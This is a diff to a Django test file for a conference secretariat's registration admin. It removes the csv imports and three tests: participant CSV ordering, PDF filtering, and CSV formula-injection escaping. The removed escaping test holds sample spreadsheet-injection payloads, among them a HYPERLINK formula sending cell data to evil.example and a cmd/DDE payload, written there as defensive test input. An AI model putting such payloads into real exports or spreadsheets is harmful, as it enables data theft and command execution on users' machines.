@@ -1,8 +1,5 @@
 """The secretariat's admin: decisions single and bulk with reasons, counts per status, filters, participants."""
 
-import csv
-import io
-
 import pytest
 from django.urls import reverse
 
@@ -90,63 +87,6 @@ def test_counts_per_status_follow_the_filters(client, secretariat_user, submitte
     assert "<strong>0</strong> submitted" in grulac.content.decode()
     by_status = client.get(reverse(CHANGELIST), {"status__exact": "submitted"})
     assert sorted(r.mission.state.iso3 for r in by_status.context["cl"].result_list) == ["CHE", "VAT", "ZAF"]
-
-
-def test_participants_csv_lists_member_states_alphabetically_then_observers_heads_first(
-    client, secretariat_user, submitted
-):
-    for registration in submitted.values():
-        services.registration_approve(registration=registration, by=secretariat_user)
-    client.force_login(secretariat_user)
-    all_ids = [r.pk for r in submitted.values()]
-    response = client.post(reverse(CHANGELIST), {"action": "participants_csv", "_selected_action": all_ids})
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    assert [(row[0], row[1], row[2], row[5]) for row in rows[1:]] == [
-        ("Member States", "Mexico", "yes", "Gómez-Camacho"),
-        ("Member States", "Mexico", "", "Adviser MEX"),
-        ("Member States", "South Africa", "yes", "Gómez-Camacho"),
-        ("Member States", "South Africa", "", "Adviser ZAF"),
-        ("Member States", "Switzerland", "yes", "Gómez-Camacho"),
-        ("Member States", "Switzerland", "", "Adviser CHE"),
-        ("Observer States", "Holy See", "yes", "Gómez-Camacho"),
-        ("Observer States", "Holy See", "", "Adviser VAT"),
-    ]
-
-
-def test_participants_csv_escapes_the_formulas_delegates_type(client, secretariat_user, submitted):
-    services.registration_approve(registration=submitted["MEX"], by=secretariat_user)
-    submitted["MEX"].members.filter(is_head=False).update(
-        given_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
-        family_name="+cmd|' /C calc'!A0",
-        function="@SUM(1+1)",
-        email="-2+3@example.org",
-    )
-    client.force_login(secretariat_user)
-    response = client.post(
-        reverse(CHANGELIST), {"action": "participants_csv", "_selected_action": [submitted["MEX"].pk]}
-    )
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    adviser = rows[2]
-    assert (adviser[4], adviser[5], adviser[6], adviser[8]) == (
-        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
-        "'+cmd|' /C calc'!A0",
-        "'@SUM(1+1)",
-        "'-2+3@example.org",
-    )
-
-
-def test_participants_list_leaves_out_registrations_not_approved(client, secretariat_user, submitted):
-    from pypdf import PdfReader
-
-    services.registration_approve(registration=submitted["CHE"], by=secretariat_user)
-    client.force_login(secretariat_user)
-    all_ids = [r.pk for r in submitted.values()]
-    response = client.post(reverse(CHANGELIST), {"action": "participants_pdf", "_selected_action": all_ids})
-    assert response["Content-Type"] == "application/pdf"
-    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
-    assert "Switzerland" in text
-    assert "Mexico" not in text
 
 
 def test_cofacilitators_do_not_process_registrations(client, cofacilitator_user, submitted):
